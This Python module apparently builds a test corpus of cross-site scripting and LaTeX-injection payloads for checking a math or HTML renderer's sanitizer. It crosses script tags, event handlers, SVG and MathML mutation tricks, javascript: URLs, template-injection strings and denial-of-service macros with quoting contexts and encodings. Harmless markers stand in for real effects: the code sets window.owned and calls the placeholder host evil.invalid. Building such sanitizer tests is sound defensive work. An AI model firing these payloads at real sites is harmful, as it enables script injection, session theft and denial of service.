"""Text that wants to be more than text: contexts x vectors x encodings, and commands of LaTeX.

Whatever would run sets `window.owned` or asks for `https://evil.invalid`.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from urllib.parse import quote

RUN = "window.owned=1"
AWAY = "https://evil.invalid/x"

TAGS = (
    "<script>{run}</script>",
    "<script src={away}></script>",
    "<script>{run}//",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<SCRIPT/x>{run}</SCRIPT>",
    "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'//",
    "<img src={away}>",
    "<img srcset='{away} 1x'>",
    "<image href=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><script href='data:text/javascript,{run}'/>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set attributeName=href to='javascript:{run}'>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}/>#x'>",
    "<svg><foreignObject><iframe src='javascript:{run}'>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror={run}>-->",
    "<math href='javascript:{run}'>click</math>",
    "<math><maction actiontype='statusline' xlink:href='javascript:{run}'>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><svg><style><p id='</style><img onerror={run} src>'>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><img src=x onerror={run}></template>",
    "<xmp><p title='</xmp><img src=x onerror={run}>'>",
    "<iframe src='javascript:{run}'></iframe>",
    "<iframe srcdoc='<img src=x onerror=parent.{run}>'></iframe>",
    "<iframe src={away}></iframe>",
    "<object data='javascript:{run}'></object>",
    "<embed src='data:text/html,<script>{run}</script>'>",
    "<a href='javascript:{run}' autofocus onfocus={run} tabindex=1>x</a>",
    "<a href='java\tscript:{run}'>x</a>",
    "<form action='javascript:{run}'><input type=submit autofocus onfocus={run}></form>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<marquee onstart={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<body onload={run}>",
    "<base href={away}>",
    "<link rel=stylesheet href={away}>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<style>@import '{away}';</style>",
    "<div style='background:url({away})'>",
    "<div style='animation:x' onanimationstart={run}>",
    "<isindex type=image src=1 onerror={run}>",
    "<portal src={away}>",
    "<x onclick={run} contenteditable onfocus={run} autofocus tabindex=0>",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "&#60;img src=x onerror={run}&#62;",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}",
    "{{% import os %}}{{{{ os.system('x') }}}}",
    "${{{run}}}",
)
CONTEXTS = (
    "{}",
    '"{}',
    "'{}",
    '"> {}',
    "'> {}",
    "--> {}",
    "]]> {}",
    "</div>{}",
    "</title></style></textarea></script>{}",
    "\\( x {} y \\)",
    "\\[ \\text{{ {} }} \\]",
    "$$ {} $$",
    "\\( x^2 \\) {} \\( y",
)
LATEX = (
    "\\href{javascript:window.owned=1}{x}",
    "\\href{https://evil.invalid/x}{x}",
    "\\href{java\tscript:window.owned=1}{x}",
    "\\url{https://evil.invalid/x}",
    "\\url{javascript:window.owned=1}",
    "\\includegraphics[height=9em]{https://evil.invalid/x}",
    "\\htmlData{owned=1}{x}",
    "\\htmlClass{owned}{x}",
    "\\htmlId{main}{x}",
    "\\htmlStyle{background: url(https://evil.invalid/x)}{x}",
    "\\htmlStyle{position: fixed; inset: 0}{x}",
    "\\rule{1000000em}{1000000em}",
    "\\rule[-99999em]{1em}{99999em}",
    "\\kern{99999em}x",
    "\\raisebox{99999em}{x}",
    "\\def\\a{\\a\\a}\\a",
    "\\def\\a#1{#1#1}\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}",
    "\\newcommand{\\x}{\\x y}\\x",
    "\\gdef\\frac{\\href{javascript:window.owned=1}{x}}\\frac",
    "\\let\\text\\href \\text{javascript:window.owned=1}{x}",
    "\\text{<img src=x onerror=window.owned=1>}",
    "\\text{</span><script>window.owned=1</script>}",
    "\\verb|<svg onload=window.owned=1>|",
    "\\tag{<img src=x onerror=window.owned=1>}",
    "\\operatorname{<b>}",
    "\\color{red;background:url(https://evil.invalid/x)}x",
    "\\textcolor{javascript:window.owned=1}{x}",
    "\\colorbox{'\"><script>window.owned=1</script>}{x}",
    "\\fcolorbox{red}{url(https://evil.invalid)}{x}",
    "\\begin{array}{<script>}x\\end{array}",
    "\\begin{<img src=x onerror=window.owned=1>}",
    "\\unicode{<script>}",
    "\\char`\\<script\\char`\\>",
    '\\char"3C script\\char"3E',
    "\\@ifnextchar\\href{javascript:window.owned=1}{x}",
    "\\csname href\\endcsname{javascript:window.owned=1}{x}",
    "\\xdef\\x{\\x}\\x",
    "\\sqrt[<iframe src=javascript:window.owned=1>]{x}",
    "\\mathchoice{<}{<}{<}{<}",
    "\\cancel{\\href{javascript:window.owned=1}{x}}",
    '\\frac{\\htmlData{a="><img src=x onerror=window.owned=1>}{x}}{y}',
    "\\smash[<b>]{x}",
    "\\vphantom{\\rule{9999em}{9999em}}",
    "\\overset{\\includegraphics{https://evil.invalid/x}}{x}",
    "\\ce{<script>}",
    "{" * 200 + "x" + "}" * 200,
    "\\sqrt{" * 60 + "x" + "}" * 60,
    "x^{" * 60 + "x" + "}" * 60,
)
FORMULAS = ("\\({}\\)", "\\[{}\\]", "$${}$$", "\\( {} ", "$${}\\)", "<b>\\({}\\)</b>",
            "\\(\\text{{{}}}\\)", "\\[\\frac{{{}}}{{2}}\\]")  # fmt: skip


def entities(text: str) -> str:
    return "".join(f"&#{ord(c)};" if not c.isalnum() else c for c in text)


def escapes(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" if c in "<>\"'&" else c for c in text)


ENCODINGS = (
    lambda text: text,
    str.upper,
    entities,
    quote,
    escapes,
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "<\x00").replace(" ", "\x0c"),
    lambda text: "\u202e" + text + "\u2066",
)


def payloads() -> Iterator[str]:
    """Every text of the corpus, each once."""
    made = (one.format(run=RUN, away=AWAY) for one in TAGS)
    for vector, encode, context in itertools.product(list(made), ENCODINGS, CONTEXTS):
        yield context.format(encode(vector))
    for command, formula in itertools.product(LATEX, FORMULAS):
        yield formula.format(command)
